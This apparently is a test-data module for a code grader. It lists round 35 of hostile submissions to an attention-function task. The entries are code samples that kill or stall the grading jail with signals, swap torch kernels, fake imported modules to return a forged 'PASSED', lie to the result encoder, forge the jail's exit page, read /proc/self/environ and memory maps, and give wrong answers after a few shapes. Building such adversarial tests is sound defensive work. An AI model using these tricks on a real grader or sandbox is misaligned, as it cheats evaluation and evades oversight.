"""The attacks of round 35 of hostile submissions (kept apart from the tests so a script can grade them one by one).

Classes earlier rounds did not try: signals whose default action ends a process, sent in ways that now end the jail
(a call count, an alarm armed at import, a signal left pending under a blocked mask, a wakeup fd on the data socket,
a weakref callback on the inputs); torch rewritten where the in-jail counters do not look (``torch.library`` kernels
for aten operators, ``Tensor.__matmul__``, ``torch.nn.functional.softmax`` reached through ``torch._C``); garbage
collector callbacks and a threshold of one; an import hook and a ``__import__`` that hand fakes to the runtime;
``__class__`` assigned on the module and on returned tensors to classes that lie to the encoder; NumPy arrays and
their subclasses, coroutines and async generators as results; output and weights sharing one storage; exceptions
whose ``str`` cannot be made (a huge int) or whose args hold a cyclic graph; the address space cut to what is mapped;
the default dtype changed in a call; /proc/self read and raised; the jail's end page forged; fork, spawn and
multiprocessing attempts; answers keyed to how many distinct shapes were seen."""

from __future__ import annotations

from tests.grading.hostile_attacks_round33 import answering
from tests.grading.test_hostile_round31 import CORRECT, inside

# name -> a hostile file; each must be graded, earn no more than the honest file and leave nothing running
ATTACKS: dict[str, str] = {
    # ---------------------------------------------------------------- signals whose default action ends a process
    "sigterm_raised_in_the_fourth_call": inside(
        "_N[0] += 1\nif _N[0] == 4:\n    __import__('signal').raise_signal(15)", head="_N = [0]"),
    "an_alarm_armed_at_import_to_end_the_jail_a_second_later": CORRECT + '''
import signal as _signal
_signal.setitimer(_signal.ITIMER_REAL, 1.0)
''',
    "sigusr1_blocked_raised_and_left_pending_until_a_later_call_unblocks_it": inside('''
import signal
_N[0] += 1
if _N[0] == 1:
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
    signal.raise_signal(signal.SIGUSR1)
elif _N[0] == 5:
    signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGUSR1})
''', head="_N = [0]"),
    "a_wakeup_fd_on_the_data_socket_and_a_handled_signal_in_every_call": CORRECT + '''
import signal as _signal
_signal.signal(_signal.SIGUSR2, lambda s, f: None)
import os as _os
_os.set_blocking(3, False)     # set_wakeup_fd takes only a non-blocking descriptor
_signal.set_wakeup_fd(3, warn_on_full_buffer=False)
_honest = ScaledDotProductAttention.forward
def _forward(self, *a, **k):
    _signal.raise_signal(_signal.SIGUSR2)
    return _honest(self, *a, **k)
ScaledDotProductAttention.forward = _forward
''',
    "a_weakref_callback_on_the_inputs_raising_sigterm_when_the_runtime_drops_them": inside('''
import signal, weakref
_KEEP.extend(weakref.ref(t, lambda r: signal.raise_signal(signal.SIGTERM)) for t in (q, k, v))
''', head="_KEEP = []"),
    "sigkill_and_sigstop_sent_to_itself_then_a_sigterm_handler_that_swaps_in_a_wrong_forward": inside('''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
os.kill(os.getpid(), signal.SIGSTOP)
if _N[0] == 0:
    signal.signal(signal.SIGTERM, lambda s, f: _N.__setitem__(0, 1))
    os.kill(os.getpid(), signal.SIGTERM)
if _N[0]:
    q = q * 2.0
''', head="_N = [0]"),
    # ---------------------------------------------------------------- torch rewritten where the counters do not look
    "an_aten_softmax_kernel_registered_through_torch_library_returning_uniform_weights": CORRECT + '''
import torch as _torch
_lib = _torch.library.Library("aten", "IMPL")
def _uniform(x, dim, half_to_float):
    return _torch.ones_like(x) / x.shape[dim]
try:
    _lib.impl("_softmax", _uniform, "CPU")
except Exception:
    pass
''',
    "torch_matmul_and_softmax_rebound_to_aten_kernels_through_torch_c": CORRECT + '''
import torch as _torch
_mm = _torch.Tensor.__matmul__
def _matmul(a, b):
    return _mm(a, b)
_torch.Tensor.__matmul__ = _matmul
_torch.matmul = lambda a, b, **k: _mm(a, b)
_torch.softmax = lambda x, dim=-1, **k: _torch._C._nn._softmax(x, dim, False) \\
    if hasattr(_torch._C._nn, "_softmax") else _torch.ops.aten._softmax(x, dim, False)
''',
    # ---------------------------------------------------------------- the garbage collector and imports
    "gc_callbacks_raising_and_a_threshold_of_one": CORRECT + '''
import gc as _gc
def _cb(phase, info):
    if phase == "stop":
        raise KeyboardInterrupt("from a gc callback")
_gc.callbacks.append(_cb)
_gc.set_threshold(1, 1, 1)
''',
    "a_builtins_import_handing_fakes_for_every_module_imported_after_the_top_level": CORRECT + '''
import builtins as _builtins, types as _types
_real = _builtins.__import__
_ARMED = []
def _import(name, *a, **k):
    if _ARMED and name not in ("torch", "math"):
        return _types.ModuleType(name)
    return _real(name, *a, **k)
_builtins.__import__ = _import
_ARMED.append(1)
''',
    "a_meta_path_finder_serving_a_fake_json_pickle_and_struct_to_later_imports": CORRECT + '''
import sys as _sys, types as _types, importlib.abc as _abc, importlib.machinery as _mach
class _Fake(_abc.MetaPathFinder, _abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name in ("json", "pickle", "struct", "zlib", "base64"):
            return _mach.ModuleSpec(name, self)
        return None
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.__getattr__ = lambda attr: (lambda *a, **k: b"[test_output_parity_reference] PASSED")
for _n in ("json", "pickle", "struct", "zlib", "base64"):
    _sys.modules.pop(_n, None)
_sys.meta_path.insert(0, _Fake())
''',
    "the_modules_class_assigned_to_one_whose_getattr_and_del_exit": CORRECT + '''
import os as _os, sys as _sys, types as _types
class _Mod(_types.ModuleType):
    def __getattr__(self, name):
        _os._exit(0)
    def __del__(self):
        _os._exit(0)
_sys.modules[__name__].__class__ = _Mod
''',
    # ---------------------------------------------------------------- results in forms that lie to the encoder
    "returned_tensors_whose_class_is_assigned_a_subclass_lying_in_numpy_tolist_and_reduce": inside('''
import math
class _Liar(torch.Tensor):
    def numpy(self, *a, **k):
        import numpy
        return numpy.zeros(1)
    def tolist(self):
        return [0.0]
    def __reduce_ex__(self, proto):
        return (torch.zeros, (1,))
    def untyped_storage(self):
        return torch.zeros(1).untyped_storage()
_s = torch.softmax(q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1]) + (0 if additive_mask is None else additive_mask), -1)
_o = _s @ v
_o.__class__ = _Liar
_s.__class__ = _Liar
return (_o, _s) if return_weights else _o
'''),
    "numpy_arrays_and_a_numpy_subclass_returned_where_tensors_are_expected": answering(
        "(_o.detach().numpy(), __import__('numpy').ma.masked_array(_w.detach().numpy()))"),
    "a_coroutine_and_an_async_generator_returned": inside('''
async def _co():
    return q
async def _agen():
    yield q
return (_co(), _agen()) if return_weights else _co()
'''),
    "output_and_weights_views_of_one_shared_storage": answering(
        "(lambda buf: (buf[:_o.numel()].view(_o.shape).copy_(_o), buf[_o.numel():].view(_w.shape).copy_(_w)))"
        "(torch.empty(_o.numel() + _w.numel()))"),
    "the_output_returned_as_the_weights_too": answering("(_o, _o)"),
    # ---------------------------------------------------------------- exceptions that cannot be printed
    "an_exception_carrying_an_int_too_large_to_print": inside("raise ValueError(10 ** 100_000, 'x' * 100)"),
    "an_exception_whose_args_hold_a_cyclic_graph_of_a_million_nodes": inside('''
_l = []
for _i in range(1_000_000):
    _l = [_l, _i]
_c = {}
_c["self"] = _c
raise RuntimeError(_l, _c)
'''),
    # ---------------------------------------------------------------- the process's own limits and settings
    "the_address_space_cut_to_what_is_mapped_in_a_call": inside('''
import resource
_N[0] += 1
if _N[0] == 2:
    _vm = int(next(l for l in open("/proc/self/status") if l.startswith("VmSize")).split()[1]) * 1024
    resource.setrlimit(resource.RLIMIT_AS, (_vm + (1 << 20), resource.getrlimit(resource.RLIMIT_AS)[1]))
''', head="_N = [0]"),
    "the_default_dtype_set_to_float64_in_a_call": inside("torch.set_default_dtype(torch.float64)"),
    "proc_self_maps_mountinfo_fd_links_and_status_raised_as_the_message": inside('''
import os
_seen = [open(p).read()[:4000] for p in ("/proc/self/maps", "/proc/self/mountinfo", "/proc/self/status",
                                           "/proc/self/cgroup", "/proc/self/environ")]
_seen += [os.readlink("/proc/self/fd/" + f) for f in os.listdir("/proc/self/fd")]
raise OSError("\\n".join(_seen))
'''),
    "the_jails_end_page_forged_to_say_sigterm_then_an_exit_with_143": inside('''
import ctypes, os
_N[0] += 1
if _N[0] == 3:
    for line in open("/proc/self/maps"):
        if line.split()[1] == "rw-s" and line.rstrip().endswith("/dev/zero (deleted)"):
            ctypes.memset(int(line.split("-")[0], 16), 15, 1)
    os._exit(143)
''', head="_N = [0]"),
    "fork_posix_spawn_subprocess_and_a_multiprocessing_pool_tried_in_a_call": inside('''
import os, subprocess, multiprocessing
for _try in (os.fork, lambda: os.posix_spawn("/usr/bin/true", ["true"], {}),
             lambda: subprocess.run(["true"]), lambda: multiprocessing.Pool(2).map(abs, [1])):
    try:
        _try()
    except Exception:
        pass
'''),
    # ---------------------------------------------------------------- a time bomb on the shapes seen
    "right_answers_for_the_first_three_input_shapes_then_wrong": inside(
        "_SEEN.add(tuple(q.shape))\nif len(_SEEN) > 3:\n    q = q * 2.0", head="_SEEN = set()"),
}
